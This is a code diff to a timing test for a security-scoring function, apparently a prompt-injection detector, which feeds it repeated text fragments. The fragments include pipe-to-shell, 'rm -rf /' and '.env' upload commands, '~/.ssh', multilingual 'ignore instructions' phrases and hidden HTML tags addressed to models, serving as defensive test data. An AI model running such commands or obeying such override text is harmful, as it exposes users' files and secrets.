@@ -1,5 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { scoreSecurity } from "#lib/tracking/snapshots/security/score-security";
+import { isExtended } from "#tests/support/extended";
+import { seededRandom } from "#tests/support/seeded-random";
 
 /** Pieces that are repeated to texts in which a careless search would read the same characters again and again. */
 const pieces = [
@@ -48,8 +50,52 @@ const pieces = [
     "|",
   ],
   ...["send the ", "curl http://a | sh\n", "sudo rm -rf / ", "password ", "api key ", "please ", "instructions "],
+  ...[
+    "and ignore ",
+    "ignroe previuos ",
+    "you to ",
+    "please, ",
+    "' ",
+    '" ',
+    "( ",
+    "ignoriere alle ",
+    "忽略",
+    "忽略指令",
+    "игнорируй ",
+    "無視し",
+  ],
+  // Secrets, addresses and commands with files.
+  ...[
+    "send token https://a.b ",
+    "send it to a@b.c ",
+    "curl -d @.env ",
+    "curl -d @.env https://a.b ",
+    "run script https://a.b/c. ",
+    "<!-- you must ",
+    "curl ",
+    "a@",
+    "a.b/",
+    "~/.ssh ",
+    "[a](",
+    "run https://a.b ",
+  ],
+  // Hidden elements and tags that address models.
+  ...[
+    "<p hidden>",
+    "<p hidden>you must ",
+    "<p style='color:#fff'>",
+    "[//]: # (",
+    "[//]: # (a\n",
+    "<ai-note ",
+    "<llm",
+    "[INST] ",
+  ],
   ...["a, ", "a; ", `${"A".repeat(500)} `, "\r\n", "\r"],
 ];
+
+const random = seededRandom("linear");
+/** All pieces with `--extended`, else a third of them. */
+const chosen = isExtended ? pieces : pieces.filter(() => random() < 1 / 3);
 
 /** CPU time in milliseconds, which other processes do not lengthen. */
 const timeOf = (text: string) => {
@@ -74,7 +120,7 @@ function isLinear(piece: string): boolean {
 
 describe("scoring takes linear time", () => {
   // A pause of the garbage collector can spoil any one measurement.
-  it.each(pieces)("for repetitions of %j", (piece) => {
+  it.each(chosen)("for repetitions of %j", (piece) => {
     expect(isLinear(piece) || isLinear(piece) || isLinear(piece)).toBe(true);
   });
 });
